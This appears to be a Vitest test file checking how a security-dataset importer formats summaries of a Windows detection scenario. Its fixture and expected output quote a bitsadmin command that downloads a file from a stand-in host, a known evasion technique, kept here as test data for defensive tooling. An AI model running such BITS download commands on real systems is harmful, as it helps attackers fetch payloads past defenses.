import { describe, expect, it } from 'vitest';
import { formatImportSummary, formatImportTable, type ImportSummary } from './import-summary.ts';

const summary: ImportSummary = {
  scenarioId: 'otrf-cmd_bitsadmin_download_psh_script',
  title: 'Bitsadmin Download Malicious File',
  path: 'datasets/atomic/windows/defense_evasion/host/cmd_bitsadmin_download_psh_script.zip',
  metadata: { id: 'SDWIN-201023023651', file: 'SDWIN-201023023651.yaml', matchedBy: 'link' },
  parts: 1,
  lines: 424,
  malformedLines: 0,
  unrecognisedRecords: 0,
  undatedRecords: 0,
  ignoredRecords: 100,
  supersededRecords: 14,
  sources: {
    'Microsoft-Windows-Sysmon/Operational 7': { records: 141, mapped: 141 },
    'Security 4658': { records: 16, mapped: 0 },
  },
  eventTypes: { 'Module Load': 141 },
  agents: 1,
  events: 310,
  processes: 40,
  storylines: 20,
  clockOffsetsMinutes: { TimeCreated: -240 },
  threat: {
    eventId: '123456789012345678',
    eventType: 'Process Creation',
    endpoint: 'WORKSTATION5',
    processName: 'bitsadmin.exe',
    commandLine:
      'bitsadmin.exe  /transfer /Download /priority Foreground https://raw.example/T1197.md',
    method: 'adversary_view',
    score: 344.7,
    matchedCommand: 'bitsadmin.exe /transfer ...',
  },
  techniques: { labelled: ['T1197'], normalised: ['T1197'], unmapped: [] },
  warnings: ['example warning'],
  durationMs: 212,
};

describe('import summary formatting', () => {
  it('reports one import as aligned key-value lines, sources and event types', () => {
    expect(formatImportSummary(summary).split('\n')).toEqual([
      'scenario    otrf-cmd_bitsadmin_download_psh_script',
      'title       Bitsadmin Download Malicious File',
      'source      datasets/atomic/windows/defense_evasion/host/cmd_bitsadmin_download_psh_script.zip',
      'metadata    SDWIN-201023023651',
      'records     424 lines, 0 malformed, 0 unrecognised, 100 ignored, 14 superseded by Sysmon',
      'scenario    310 events, 1 agents, 40 processes, 20 storylines',
      'threat      Process Creation on WORKSTATION5: bitsadmin.exe /transfer /Download /priority Foreground https://raw.example/T119…',
      'placed by   adversary_view (score 344.7)',
      'techniques  T1197',
      'speed       212 ms, 2000 records/s',
      '',
      'source                                  records  events',
      'Microsoft-Windows-Sysmon/Operational 7  141      141',
      'Security 4658                           16       0',
      '',
      'event type   events',
      'Module Load  141',
      '',
      'warning: example warning',
    ]);
  });

  it('lists a batch as one row per recording', () => {
    expect(formatImportTable([summary]).split('\n')).toEqual([
      'scenario                                events  agents  malformed  threat                                                        method          ms',
      'otrf-cmd_bitsadmin_download_psh_script  310     1       0          bitsadmin.exe: bitsadmin.exe /transfer /Download /priority …  adversary_view  212',
    ]);
  });
});
